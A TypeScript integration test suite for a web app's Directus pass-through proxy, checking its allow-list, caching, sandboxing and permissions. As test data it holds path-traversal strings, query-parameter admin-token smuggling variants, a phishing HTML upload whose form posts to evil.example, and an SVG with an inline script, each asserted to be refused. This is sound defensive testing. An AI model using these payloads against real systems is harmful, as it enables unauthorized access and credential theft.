import { request as httpRequest } from 'node:http';

import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest';

import { LOCAL_STACK } from '@/lib/local-stack';
import { TEST_PORTS } from '@/dev/stack/test-ports';
import { startApp, type AppInstance } from '../../dev/stack/test-stack';
import { endInDirectus } from '../support/directus';
import { emulatorControl } from '../support/emulator';
import { resetLimits } from '../support/limits';
import { credentialIn } from '../support/session';
import { apiClient } from './api-client';

// /api/directus/…: client components read Directus as the signed-in person, within the allow-list.
const stack = inject('stack');
const emulator = emulatorControl(stack.emulatorUrl);
const ADA = LOCAL_STACK.demoMember;
const ADMIN = LOCAL_STACK.directus.adminToken;

async function signIn(appUrl = stack.appUrl) {
  const api = apiClient(appUrl);
  await resetLimits(stack.redisUrl);
  expect((await api.post('/api/auth/start', { phone: ADA.phone })).status).toBe(200);
  expect((await api.post('/api/auth/verify', { code: await emulator.latestCode(ADA.phone) })).status).toBe(200);
  return api;
}

/** A request whose path goes out exactly as written (fetch would resolve dot segments itself). */
function raw(path: string, { method = 'GET', headers = {} }: { method?: string; headers?: Record<string, string> } = {}) {
  const { hostname, port } = new URL(stack.appUrl);
  return new Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: string }>((resolve, reject) => {
    const req = httpRequest({ hostname, port, path, method, headers }, (res) => {
      let body = '';
      res.setEncoding('utf8').on('data', (chunk) => (body += chunk));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body }));
    });
    req.on('error', reject).end();
  });
}

async function directusAdmin<T>(method: string, path: string, body?: unknown): Promise<T> {
  const response = await fetch(`${stack.directusUrl}${path}`, {
    method,
    headers: { Authorization: `Bearer ${ADMIN}`, ...(body === undefined ? {} : { 'Content-Type': 'application/json' }) },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  if (!response.ok) throw new Error(`Directus ${method} ${path}: ${response.status} ${await response.text()}`);
  return response.status === 204 ? (undefined as T) : ((await response.json()) as { data: T }).data;
}

/** Uploads a file as the admin (members may read every file: the local seed). */
async function uploadAsAdmin(name: string, type: string, content: string): Promise<string> {
  const form = new FormData();
  form.append('file', new Blob([content], { type }), name);
  const response = await fetch(`${stack.directusUrl}/files`, { method: 'POST', headers: { Authorization: `Bearer ${ADMIN}` }, body: form });
  if (!response.ok) throw new Error(`Directus POST /files: ${response.status}`);
  return ((await response.json()) as { data: { id: string } }).data.id;
}

let ada: ReturnType<typeof apiClient>;
let imageId: string;

beforeAll(async () => {
  await emulator.reset();
  ada = await signIn();
  const [withImage] = await directusAdmin<{ image: string }[]>('GET', '/items/member_news?fields=image&filter[image][_nnull]=true&limit=1');
  imageId = withImage!.image;
});

beforeEach(() => resetLimits(stack.redisUrl));

describe('reading as the person', () => {
  it('reads the members collection with the person’s credential, privately', async () => {
    const answer = await ada.get('/api/directus/items/member_news?fields=title&sort=sort');
    expect(answer.status).toBe(200);
    expect(answer.body.data.map((item: { title: string }) => item.title)).toEqual([
      'Welcome to the members area',
      'Reading room hours',
      'Annual meeting',
    ]);
    expect(answer.headers.get('cache-control')).toBe('private, no-store');
    expect(answer.headers.get('set-cookie')).toBeNull();
  });

  it('reads with the static strategy’s credential too', async () => {
    const onStatic = await signIn(stack.staticAppUrl);
    const answer = await onStatic.get('/api/directus/items/member_news/1?fields=title');
    expect(answer.status).toBe(200);
    expect(answer.body.data.title).toBe('Welcome to the members area');
  });

  it('answers Directus’s refusals in our error shape', async () => {
    const missing = await ada.get('/api/directus/items/no_such_collection');
    expect(missing.status).toBe(403);
    expect(missing.body).toEqual({ error: { code: 'forbidden', message: expect.any(String) } });
    const badQuery = await ada.get('/api/directus/items/member_news?filter=%7Bnot-json');
    expect(badQuery.status).toBe(400);
    expect(badQuery.body.error.code).toBe('invalid_request');
  });

  it('keeps Directus’s permissions on what a query touches: nothing of users through fields or filters', async () => {
    // Fields the member may not read are left out; a filter on them is refused (no guessing oracle).
    for (const fields of ['image.uploaded_by.email', '*.*.*']) {
      const answer = await ada.get(`/api/directus/items/member_news?fields=${fields}`);
      expect(answer.status, fields).toBe(200);
      expect(JSON.stringify(answer.body), fields).not.toMatch(/@example\.com/);
    }
    const filtered = await ada.get(
      `/api/directus/items/member_news?filter[image][uploaded_by][email][_eq]=${LOCAL_STACK.directus.adminEmail}`,
    );
    expect(filtered.status).toBe(403);
    expect(filtered.body.error.code).toBe('forbidden');
  });

  it('answers a range past the end of a file as the person’s mistake, not an outage', async () => {
    const answer = await ada.request('GET', `/api/directus/assets/${imageId}`, { headers: { Range: 'bytes=999999-' } });
    expect(answer.status).toBe(400);
    expect(answer.body.error.code).toBe('invalid_request');
  });

  it('streams assets, in ranges too, and never as public when only members may read them', async () => {
    const response = await fetch(`${stack.appUrl}/api/directus/assets/${imageId}`, { headers: { Cookie: ada.cookie! } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('image/png');
    expect(response.headers.get('cache-control')).toBe('private, no-store');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 4)]).toEqual([0x89, 0x50, 0x4e, 0x47]);
    expect(bytes.length).toBeGreaterThan(100);

    const part = await fetch(`${stack.appUrl}/api/directus/assets/${imageId}`, { headers: { Cookie: ada.cookie!, Range: 'bytes=0-7' } });
    expect(part.status).toBe(206);
    expect(part.headers.get('content-range')).toBe(`bytes 0-7/${bytes.length}`);
    expect(new Uint8Array(await part.arrayBuffer())).toEqual(bytes.slice(0, 8));

    const head = await fetch(`${stack.appUrl}/api/directus/assets/${imageId}`, { method: 'HEAD', headers: { Cookie: ada.cookie! } });
    expect(head.status).toBe(200);
    expect(await head.text()).toBe('');
  });

  it('lets a file anyone may read be cached as public', async () => {
    const [publicPolicy] = await directusAdmin<{ id: string }[]>('GET', '/policies?fields=id&filter[name][_eq]=$t:public_label');
    const permission = await directusAdmin<{ id: number }>('POST', '/permissions', {
      policy: publicPolicy!.id,
      collection: 'directus_files',
      action: 'read',
      fields: ['*'],
    });
    try {
      const response = await fetch(`${stack.appUrl}/api/directus/assets/${imageId}`, { headers: { Cookie: ada.cookie! } });
      expect(response.status).toBe(200);
      expect(response.headers.get('cache-control')).toMatch(/^public\b/);
      await response.arrayBuffer();
    } finally {
      await directusAdmin('DELETE', `/permissions/${permission.id}`);
    }
  });
});

describe('what never passes', () => {
  it.each([
    '/api/directus/users',
    '/api/directus/users/me',
    '/api/directus/settings',
    '/api/directus/auth/login',
    '/api/directus/auth/refresh',
    '/api/directus/server/info',
    '/api/directus/collections',
    '/api/directus/graphql',
    '/api/directus/sms-sign-in/lookup',
    '/api/directus',
    '/api/directus/items',
    '/api/directus/items/..%2f..%2fusers',
    '/api/directus/items/%2e%2e/users',
    '/api/directus/items%2F..%2Fusers%2Fme',
    '/api/directus/USERS',
    '/api/directus/Items/%2E%2E/Settings',
    '/api/directus/items/member_news%3Faccess_token=x',
    '/api/directus/items/%252e%252e/users',
  ])('refuses GET %s with path_not_allowed', async (path) => {
    const answer = await raw(path, { headers: { Cookie: ada.cookie! } });
    expect(answer.status, answer.body).toBe(403);
    expect(JSON.parse(answer.body)).toEqual({ error: { code: 'path_not_allowed', message: expect.any(String) } });
  });

  it("refuses a path it cannot percent-decode in the API shape, its sentence in the asker's language", async () => {
    const path = '/api/directus/items/%E0%A4%A';
    const english = await raw(path, { headers: { Cookie: ada.cookie! } });
    const spanish = await raw(path, { headers: { Cookie: ada.cookie!, 'Accept-Language': 'es-ES,es;q=0.9' } });
    const german = await raw(path, { headers: { Cookie: `${ada.cookie!}; NEXT_LOCALE=de`, 'Accept-Language': 'es' } });
    expect([english.status, spanish.status, german.status]).toEqual([403, 403, 403]);
    expect([english, spanish, german].map((answer) => JSON.parse(answer.body).error)).toEqual([
      { code: 'path_not_allowed', message: 'This site does not pass that request on.' },
      { code: 'path_not_allowed', message: 'Este sitio no reenvía esa solicitud.' },
      { code: 'path_not_allowed', message: 'Diese Website leitet diese Anfrage nicht weiter.' },
    ]);
  });

  // Next itself redirects some of these (double slashes) before the pass-through sees them.
  it.each([
    '/api/directus/items/../../users',
    '/api/directus/items/../users/me',
    '/api/directus/./items/../../settings',
    '/api/directus//users',
    '/api/directus/items//..//..//users',
  ])('never reaches Directus with raw dot segments or double slashes: %s', async (path) => {
    const answer = await raw(path, { headers: { Cookie: ada.cookie! } });
    expect([403, 404, 308]).toContain(answer.status);
    expect(answer.body).not.toContain(ADA.email);
  });

  it('refuses methods the list does not allow, before reading anything', async () => {
    for (const method of ['POST', 'PATCH', 'DELETE', 'PUT']) {
      const answer = await ada.request(method, '/api/directus/items/member_news', {
        body: {},
        headers: { 'Content-Type': 'application/json', Origin: stack.appUrl },
      });
      expect(answer.status, method).toBe(403);
      expect(answer.body.error.code).toBe('path_not_allowed');
    }
  });

  it('sends nothing of the browser’s credentials: not its Authorization, not access_token', async () => {
    const stranger = await raw(`/api/directus/items/member_news?access_token=${ADMIN}`, {
      headers: { Authorization: `Bearer ${ADMIN}`, Cookie: `directus_session_token=${ADMIN}` },
    });
    expect(stranger.status).toBe(401);
    expect(JSON.parse(stranger.body).error.code).toBe('unauthorized');
    // Directus refuses a token in the query and the header together (400): a 200 shows it got one.
    const withQueryToken = await ada.get(`/api/directus/items/member_news?fields=id&access_token=${ADMIN}`);
    expect(withQueryToken.status).toBe(200);
  });
});

// Directus reads its query with qs, for which a key that starts with a bracket group takes that
// group's name: `[access_token]=T` is access_token to Directus, and T its credential.
describe('a token smuggled into the query', () => {
  const SMUGGLED = [
    `access_token=${ADMIN}`,
    `[access_token]=${ADMIN}`,
    `%5Baccess_token%5D=${ADMIN}`,
    `%5baccess_token%5d=${ADMIN}`,
    `[access_token][x]=${ADMIN}`,
    `%61ccess_token[]=${ADMIN}`,
  ];
  const STAFF_ONLY = 'staff_notes';

  beforeAll(async () => {
    const collections = await directusAdmin<{ collection: string }[]>('GET', '/collections?fields=collection');
    if (!collections.some(({ collection }) => collection === STAFF_ONLY))
      await directusAdmin('POST', '/collections', { collection: STAFF_ONLY, schema: {}, meta: {} });
  });

  it.each(SMUGGLED)('gives the member only their own rights on a collection they may not read: ?%s', async (query) => {
    const answer = await ada.get(`/api/directus/items/${STAFF_ONLY}?${query}`);
    expect(answer.status).toBe(403);
    expect(answer.body.error.code).toBe('forbidden');
  });

  describe('on a file the member may not read', () => {
    // Members read every file in the local seed; here, for a while, they read none.
    let memberFilesRead: { id: number; policy: string };
    beforeAll(async () => {
      const [memberNews] = await directusAdmin<{ policy: string }[]>(
        'GET',
        '/permissions?fields=policy&filter[collection][_eq]=member_news&filter[action][_eq]=read',
      );
      const [files] = await directusAdmin<{ id: number; policy: string }[]>(
        'GET',
        `/permissions?fields=id,policy&filter[collection][_eq]=directus_files&filter[action][_eq]=read&filter[policy][_eq]=${memberNews!.policy}`,
      );
      memberFilesRead = files!;
      await directusAdmin('DELETE', `/permissions/${memberFilesRead.id}`);
    });
    afterAll(() =>
      directusAdmin('POST', '/permissions', {
        policy: memberFilesRead.policy,
        collection: 'directus_files',
        action: 'read',
        fields: ['*'],
      }),
    );

    it('refuses the member the file', async () => {
      const answer = await ada.get(`/api/directus/assets/${imageId}`);
      expect(answer.status).toBe(403);
    });

    // The first request for a file carries no Authorization: a smuggled token would be the only one.
    it.each(SMUGGLED)('still refuses it with ?%s', async (query) => {
      const answer = await ada.get(`/api/directus/assets/${imageId}?${query}`);
      expect(answer.status).toBe(403);
      expect(answer.body.error.code).toBe('forbidden');
    });
  });
});

// An uploaded document served on this origin could pose as the site's own page (a sign-in form
// posting elsewhere, reachable as /login?next=/api/directus/assets/<id>).
describe('files on the app’s origin', () => {
  let pageId: string;
  let drawingId: string;
  beforeAll(async () => {
    pageId = await uploadAsAdmin(
      'page.html',
      'text/html',
      '<!doctype html><base href="https://evil.example/"><form action="/steal"><input name="code"></form>',
    );
    drawingId = await uploadAsAdmin(
      'drawing.svg',
      'image/svg+xml',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    );
  });

  const asset = async (id: string) => {
    const response = await fetch(`${stack.appUrl}/api/directus/assets/${id}`, { headers: { Cookie: ada.cookie! } });
    const body = await response.text();
    return { status: response.status, headers: response.headers, body };
  };

  it('serves them sandboxed: no scripts, no forms, no <base>', async () => {
    for (const id of [pageId, drawingId, imageId]) {
      const { status, headers } = await asset(id);
      expect(status).toBe(200);
      const policy = (headers.get('content-security-policy') ?? '').split(/\s*;\s*/);
      expect(policy).toEqual(
        expect.arrayContaining(["default-src 'none'", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'none'", 'sandbox']),
      );
      expect(headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it('sends HTML and SVG as downloads, and keeps pictures inline', async () => {
    const page = await asset(pageId);
    expect(page.headers.get('content-type')).toMatch(/^text\/html/);
    expect(page.headers.get('content-disposition')).toMatch(/^attachment; filename="page\.html"/);
    expect(page.body).toContain('<form');
    expect((await asset(drawingId)).headers.get('content-disposition')).toMatch(/^attachment; filename="drawing\.svg"/);
    const picture = await asset(imageId);
    expect(picture.headers.get('content-type')).toBe('image/png');
    expect(picture.headers.get('content-disposition')).toMatch(/^inline\b/);
  });
});

describe('signed out', () => {
  it('answers 401 for someone signed out', async () => {
    const answer = await apiClient(stack.appUrl).get('/api/directus/items/member_news');
    expect(answer.status).toBe(401);
    expect(answer.body.error.code).toBe('unauthorized');
    expect(answer.headers.get('set-cookie')).toBeNull();
  });

  it('answers 401 and clears the cookie when Directus has ended the session', async () => {
    const device = await signIn();
    const token = await credentialIn(device.cookie?.split('=').slice(1).join('='), stack.appEnv.SESSION_SECRET!);
    await endInDirectus(stack.directusUrl, token!);
    const answer = await device.get('/api/directus/items/member_news');
    expect(answer.status).toBe(401);
    expect(answer.body.error.code).toBe('unauthorized');
    expect(answer.headers.get('set-cookie')).toMatch(/^__Host-sms-sign-in=;/);
    expect(device.cookie).toBeUndefined();
  });

  it('sends signed-out visitors of /members to /login?next=/members', async () => {
    const answer = await apiClient(stack.appUrl).get('/members');
    expect(answer.status).toBe(307);
    expect(answer.headers.get('location')).toMatch(/\/login\?next=%2Fmembers$/);
  });
});

describe('state-changing methods, where the list allows them', () => {
  let writable: AppInstance;
  beforeAll(async () => {
    writable = await startApp(TEST_PORTS.app + 13, {
      ...stack.appEnv,
      DIRECTUS_PASS_THROUGH: 'GET /items/*, POST|PATCH /items/member_news/*',
      DIRECTUS_PASS_THROUGH_MAX_BODY_BYTES: '1024',
    });
  });
  afterAll(() => writable?.stop());

  const post = (api: ReturnType<typeof apiClient>, headers: Record<string, string>, raw = '{"title":"x"}') =>
    api.request('PATCH', '/api/directus/items/member_news/1', {
      raw,
      headers: { 'Content-Type': 'application/json', Origin: writable.url, ...headers },
    });

  it('follow the auth routes’ Origin and JSON rules, and a size cap, and Directus’s permissions', async () => {
    const member = await signIn(writable.url);
    expect((await post(member, { Origin: 'https://evil.example' })).body.error.code).toBe('forbidden_origin');
    expect((await post(member, { 'Content-Type': 'text/plain' })).body.error.code).toBe('forbidden_origin');
    expect((await post(member, { 'Sec-Fetch-Site': 'cross-site' })).body.error.code).toBe('forbidden_origin');
    expect((await post(member, {}, 'not json')).body.error.code).toBe('invalid_request');
    expect((await post(member, {}, JSON.stringify({ title: 'x'.repeat(2000) }))).body.error.code).toBe('invalid_request');
    // Allowed through, and refused by Directus: members may only read.
    const refused = await post(member, {});
    expect(refused.status).toBe(403);
    expect(refused.body.error.code).toBe('forbidden');
  });
});
